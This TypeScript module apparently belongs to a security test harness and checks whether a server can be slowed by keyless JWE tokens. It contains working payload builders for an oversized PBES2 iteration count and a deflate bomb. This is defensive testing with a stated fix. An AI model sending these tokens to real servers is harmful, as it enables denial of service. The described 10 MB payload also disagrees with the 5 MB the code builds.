import { deflateRawSync } from 'node:zlib';
import type { Credential, Reply } from '../../exchange.ts';
import type { Attack, Judgement } from '../../kinds/attack.ts';
import { median } from '../../kit/evidence/median.ts';
import { together } from '../../kit/evidence/together.ts';
import { encode } from '../../kit/tokens/compact-token.ts';
import { statesClaims, withAccessToken } from '../../kit/tokens/presented-token.ts';

type Seen = {
  /** Medians of the rounds, each of which asks with genuine and with costly tokens, as many at once. */
  readonly genuineMs: number;
  readonly costlyMs: number;
  readonly rounds: { readonly tries: number; readonly slow: number };
  readonly statuses: readonly number[];
  readonly accepted: number;
  /** The slowest answer to a bystander, without and beside costly tokens. */
  readonly bystanderMs: { readonly alone: number; readonly beside: number };
};

/** What an answer may cost more than one to a genuine token. Derivation as asked takes more than half a second. */
const allowedMs = 300;
const rounds = 5;
/** So many rounds, and no other, are not by chance. */
const plainly = 3;

export default {
  kind: 'attack',
  id: 'jwe-cost',
  title: 'Tokens that are costly to refuse',
  question: 'Can a token without any key make the server work for long?',
  goal: 'Keep the server busy with requests that cost the sender nothing.',
  precondition: 'none',
  severity: 'medium',
  references: [
    'CWE-400',
    'CWE-409',
    'CVE-2023-51774',
    'RFC 7518 §8.1',
    'RFC 7516 §4.1.3',
    'RFC 8725bis §3.13',
    'RFC 8725bis §3.15',
  ],
  steps: [
    'They send encrypted tokens whose key would have to be derived with 1,500,000 rounds of PBKDF2, and ones whose 10 MB of zeros are packed into some kilobytes.',
    'Beside them a bystander asks who they are. In turn with them, as many genuine tokens are sent at once: the times of each round are compared.',
  ],
  fix: 'Refuse encrypted tokens where you issue none. Else limit the rounds of key derivation and the size once unpacked, before any work is done.',
  controls: ['jwe-unbounded'],
  needs: { alone: 'process', optIn: 'cpu' },
  appliesTo: statesClaims,
  expected: () => 'blocked',

  async attempt(stage) {
    const held = await stage.signIn(stage.attacker);
    const bystander = await stage.signIn(stage.user(3));
    const costly = [derivation(), derivation(), bomb()].map((token) => withAccessToken(held, token));
    const genuine = costly.map(() => held);
    const waited = { alone: 0, beside: 0 };
    /** @returns the median of these, and notes how long the bystander waits meanwhile */
    const askedWith = async (tokens: readonly Credential[], how: keyof typeof waited) => {
      const [answers, other] = await together(
        together(...tokens.map((as) => stage.perform('me', { as }))),
        stage.perform('me', { as: bystander }),
      );
      waited[how] = Math.max(waited[how], Math.round(other.ms));
      return { answers, ms: median(answers.map(({ ms }) => ms)) };
    };
    let hostileTokens = costly;
    const replies: Reply[] = [];
    const [genuineMs, costlyMs]: [number[], number[]] = [[], []];
    let slow = 0;
    for (let round = 0; round < rounds; round += 1) {
      const sound = await askedWith(genuine.slice(0, hostileTokens.length), 'alone');
      const hostile = await askedWith(hostileTokens, 'beside');
      replies.push(...hostile.answers);
      genuineMs.push(sound.ms);
      costlyMs.push(hostile.ms);
      if (hostile.ms > sound.ms * 5 + allowedMs) slow += 1;
      // Once it is plain that the server obeys, more of it would only burden whoever else uses the machine.
      if (slow === plainly && slow === round + 1) break;
      if (slow === 1 && round === 0) hostileTokens = [costliest(costly, hostile.answers)];
    }
    return {
      genuineMs: Math.round(median(genuineMs)),
      costlyMs: Math.round(median(costlyMs)),
      rounds: { tries: costlyMs.length, slow },
      statuses: [...new Set(replies.map(({ status }) => status))],
      accepted: replies.filter(({ subject }) => subject !== undefined).length,
      bystanderMs: waited,
    };
  },

  judge({ genuineMs, costlyMs, rounds: { tries, slow }, statuses, accepted, bystanderMs }): Judgement {
    const because = `an answer to a costly token took ${costlyMs} ms, to a genuine one ${genuineMs} ms (medians); a bystander waited ${bystanderMs.beside} ms at most beside them, ${bystanderMs.alone} ms without`;
    if (accepted > 0) return { outcome: 'succeeded', because: `${accepted} tokens without a key were believed` };
    if (statuses.includes(0)) return { outcome: 'inconclusive', because: 'a request had no answer' };
    // a machine that is busy with something else stalls in some of the rounds, and in both halves of them
    if (slow === tries) return { outcome: 'succeeded', because };
    if (2 * slow > tries)
      return { outcome: 'inconclusive', because: `in ${slow} of ${tries} rounds costly tokens took long; ${because}` };
    if (statuses.some((status) => status >= 500)) return { outcome: 'blocked-by-crash', because };
    return { outcome: 'blocked', because };
  },
} satisfies Attack<Seen>;

/** That to which the answer took longest: whether it does once more, it tells alone. */
function costliest(tokens: readonly Credential[], answers: readonly Reply[]): Credential {
  const longest = Math.max(...answers.map(({ ms }) => ms));
  return tokens[answers.findIndex(({ ms }) => ms === longest)] ?? {};
}

/** RFC 7518 §4.8: the sender says how often the receiver hashes. Nothing else of the token needs to be right. */
function derivation(): string {
  const header = { alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 1_500_000, p2s: encode('salt salt') };
  return encrypted(header, Buffer.alloc(24), Buffer.from('ciphertext'));
}

function bomb(): string {
  return encrypted(
    { alg: 'dir', enc: 'A128GCM', zip: 'DEF' },
    Buffer.alloc(0),
    deflateRawSync(Buffer.alloc(5_000_000)),
  );
}

function encrypted(header: Record<string, unknown>, key: Buffer, ciphertext: Buffer): string {
  const parts = [key, Buffer.alloc(12), ciphertext, Buffer.alloc(16)].map((part) => part.toString('base64url'));
  return [encode(JSON.stringify(header)), ...parts].join('.');
}
